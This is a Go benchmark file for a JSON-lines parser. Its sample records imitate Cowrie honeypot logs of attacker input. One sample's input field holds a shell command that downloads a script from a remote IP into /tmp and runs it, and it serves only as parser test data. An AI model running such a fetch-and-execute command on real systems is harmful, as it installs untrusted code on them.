package jsonline

import "testing"

func BenchmarkParse(b *testing.B) {
	lines := corpus(b)
	size := 0
	for _, line := range lines {
		size += len(line)
	}
	b.SetBytes(int64(size / len(lines)))
	b.ReportAllocs()
	var l Line
	for i := 0; b.Loop(); i++ {
		if err := l.Parse(lines[i%len(lines)]); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkParseSample(b *testing.B) {
	for _, name := range []string{"plain", "escapes", "beyond ASCII", "stray"} {
		b.Run(name, func(b *testing.B) {
			line := []byte(samples[name])
			b.SetBytes(int64(len(line)))
			b.ReportAllocs()
			var l Line
			for b.Loop() {
				if err := l.Parse(line); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

var samples = map[string]string{
	"plain":        `{"eventid":"cowrie.command.input","timestamp":"2018-05-06T17:44:05.866769Z","input":"cd /tmp; wget http://198.18.17.2/x.sh; sh x.sh","sensor":"a"}`,
	"escapes":      `{"eventid":"cowrie.command.input","timestamp":"2018-05-06T17:44:05.866769Z","input":"echo -e \"\\x41\\x42\\x43\\x44\\x45\" > \/tmp\/\u0061","sensor":"a"}`,
	"beyond ASCII": `{"eventid":"cowrie.command.input","timestamp":"2018-05-06T17:44:05.866769Z","input":"Привет, мир. Как дела? 你好世界","sensor":"a"}`,
	"stray":        `{"eventid":"cowrie.command.input","timestamp":"2018-05-06T17:44:05.866769Z","input":"` + "\xff\xfb!\xff\xfb?" + ` ls","sensor":"a"}`,
}
